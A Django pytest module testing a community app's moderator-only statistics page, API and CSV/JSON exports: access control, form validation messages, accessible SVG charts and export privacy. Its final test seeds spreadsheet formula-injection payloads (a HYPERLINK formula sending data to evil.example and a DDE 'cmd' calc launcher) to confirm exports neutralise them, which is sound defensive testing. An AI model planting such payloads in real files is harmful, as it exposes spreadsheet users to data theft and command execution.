"""Who may see the figures and exports, the period form's answers to bad input, the charts as SVG."""

import json
import re
import xml.etree.ElementTree as ET
from datetime import timedelta

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from meetups.models import Meetup
from members.services import api_token_create
from members.tests.factories import UserFactory

from .dataset import NOW, build

pytestmark = pytest.mark.django_db

SVG = "{http://www.w3.org/2000/svg}"

PAGES = [
    reverse("insight:page"),
    reverse("insight:csv", args=["ideas"]),
    *(
        reverse("insight:export", args=[kind, fmt])
        for kind in ("proposals", "meetups")
        for fmt in ("csv", "json")
    ),
]


@pytest.fixture
def moderator_client(client):
    client.force_login(UserFactory(moderator=True))
    return client


@pytest.mark.parametrize("url", PAGES)
def test_members_who_are_not_moderators_get_403(client, url):
    client.force_login(UserFactory())
    response = client.get(url)
    assert response.status_code == 403
    assert "for the community&#x27;s moderators" in response.content.decode()


@pytest.mark.parametrize("url", PAGES)
def test_visitors_are_asked_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_the_api_answers_403_to_a_member_and_401_to_nobody(client):
    _token, raw = api_token_create(user=UserFactory(), name="tests")
    refused = client.get("/api/v1/insight", headers={"Authorization": f"Bearer {raw}"})
    assert refused.status_code == 403
    assert refused.json() == {
        "message": "The community's figures are for its moderators.",
        "details": {},
    }
    assert client.get("/api/v1/insight").status_code == 401


def test_a_moderators_token_reads_the_api(client):
    _token, raw = api_token_create(user=UserFactory(moderator=True), name="tests")
    response = client.get("/api/v1/insight", headers={"Authorization": f"Bearer {raw}"})
    assert response.status_code == 200
    assert len(response.json()["ideas_per_week"]) == 12  # the last 12 weeks by default


def test_the_menu_offers_the_page_to_moderators_only(client):
    client.force_login(UserFactory())
    assert reverse("insight:page") not in client.get(reverse("proposals:board")).content.decode()
    client.force_login(UserFactory(moderator=True))
    assert reverse("insight:page") in client.get(reverse("proposals:board")).content.decode()


BAD_PERIODS = [
    (
        {"weeks": "custom", "start": "2026-03-29", "end": "2026-03-02"},
        "end",
        "The last day comes before the first day. Please swap them.",
    ),
    (
        {"weeks": "custom", "start": "yesterday", "end": "2026-03-02"},
        "start",
        "Please give a date like 2026-03-01.",
    ),
    (
        {"weeks": "custom", "start": "2026-03-01", "end": "2026-13-45"},
        "end",
        "Please give a date like 2026-03-31.",
    ),
    (
        {"weeks": "custom", "start": "2020-01-01", "end": "2026-03-02"},
        "end",
        "Please choose at most three years: longer periods are too slow to show.",
    ),
    (
        {"weeks": "custom", "start": "2026-03-01"},
        "__all__",
        "Please give both the first and the last day.",
    ),
    ({"weeks": "7"}, "weeks", "Select a valid choice. 7 is not one of the available choices."),
    (
        {"weeks": "custom", "start": "9999-12-31", "end": "9999-12-31"},
        "start",
        "Please choose a day between 2000-01-01 and 2999-12-31.",
    ),
]


@pytest.mark.parametrize(("params", "field", "message"), BAD_PERIODS)
def test_a_bad_period_gets_a_clear_error_on_the_page(moderator_client, params, field, message):
    response = moderator_client.get(reverse("insight:page"), params)
    assert response.status_code == 400
    form = response.context["form"]
    assert form.errors[field] == [message]
    assert message in response.content.decode().replace("&#x27;", "'")


@pytest.mark.parametrize(("params", "field", "message"), BAD_PERIODS)
def test_a_bad_period_gets_a_clear_error_from_the_api(moderator_client, params, field, message):
    response = moderator_client.get("/api/v1/insight", params)
    assert response.status_code == 400
    assert response.json() == {
        "message": "Some fields need another look.",
        "details": {field: [message]},
    }


def test_a_bad_period_on_a_csv_download_is_no_500(moderator_client):
    response = moderator_client.get(
        reverse("insight:csv", args=["ideas"]), {"start": "x", "end": "y"}
    )
    assert response.status_code == 400


def test_the_charts_are_svg_with_a_title_and_a_description(client):
    community = build()
    client.force_login(community.moderator)
    with time_machine.travel(NOW, tick=False):
        html = client.get(
            reverse("insight:page"), {"start": "2026-03-02", "end": "2026-03-29"}
        ).content.decode()
    charts = re.findall(r"<svg.*?</svg>", html, flags=re.S)
    assert len(charts) == 4
    for markup in charts:
        svg = ET.fromstring(markup)  # well-formed XML
        assert svg.tag == f"{SVG}svg"
        assert svg.get("role") == "img"
        assert svg.get("width") == "100%"
        assert svg.get("viewBox").startswith("0 0 ")
        title, desc = svg.find(f"{SVG}title"), svg.find(f"{SVG}desc")
        assert title.text and desc.text
        assert svg.get("aria-labelledby") == f"{title.get('id')} {desc.get('id')}"


def test_exports_name_people_by_their_shown_name_only(moderator_client):
    community = build()
    with time_machine.travel(NOW, tick=False):
        Meetup.objects.create(
            title="防災の交流会",
            starts_at=timezone.now() + timedelta(days=3),
            ends_at=timezone.now() + timedelta(days=3, hours=2),
            created_by=community.alice,
            online_url="https://meet.example.org/secret-room",
        )
    everything = ""
    for kind in ("proposals", "transitions", "memberships", "meetups"):
        for fmt in ("csv", "json"):
            response = moderator_client.get(reverse("insight:export", args=[kind, fmt]))
            assert response.status_code == 200
            assert response.streaming
            text = b"".join(response.streaming_content).decode()
            everything += text
            if fmt == "json":
                rows = json.loads(text)
                assert rows
    memberships = json.loads(
        b"".join(
            moderator_client.get(
                reverse("insight:export", args=["memberships", "json"])
            ).streaming_content
        )
    )
    assert {row["member"] for row in memberships} == {"Alice", "Bob", "Carol", "Dave", "Erin"}
    assert "@example.org" not in everything
    assert "secret-room" not in everything
    proposals = json.loads(
        b"".join(
            moderator_client.get(
                reverse("insight:export", args=["proposals", "json"])
            ).streaming_content
        )
    )
    assert len(proposals) == 8
    assert {row["proposer"] for row in proposals} == {"Alice", "Bob", "Carol"}
    transitions = json.loads(
        b"".join(
            moderator_client.get(
                reverse("insight:export", args=["transitions", "json"])
            ).streaming_content
        )
    )
    reopen = [row for row in transitions if row["transition"] == "reopen"]
    assert [(row["from_stage"], row["to_stage"], row["by"]) for row in reopen] == [
        ("archived", "idea", "Alice")
    ]


def test_an_unknown_export_is_404(moderator_client):
    assert moderator_client.get("/insight/export/users.csv").status_code == 404
    assert moderator_client.get("/insight/export/proposals.xml").status_code == 404
    assert moderator_client.get("/insight/nothing.csv").status_code == 404


def test_the_page_opens_on_its_default_period_and_its_menu_says_so(client):
    from members.tests.factories import UserFactory

    client.force_login(UserFactory(moderator=True))
    page = client.get("/insight/").content.decode()
    assert '<option value="12" selected>' in page


def test_member_text_that_looks_like_a_formula_is_never_one_in_a_csv(moderator_client):
    """A spreadsheet runs a cell starting with = + - @: an export keeps such text as text."""
    import csv
    import io

    from proposals.tests.factories import make_proposal

    proposer = UserFactory(display_name='=HYPERLINK("https://evil.example/?"&A1,"x")')
    make_proposal(proposer=proposer, title="+cmd|' /C calc'!A0", summary="-2+3")
    response = moderator_client.get(reverse("insight:export", args=["proposals", "csv"]))
    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'+cmd|' /C calc'!A0" in cells
    assert "'-2+3" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
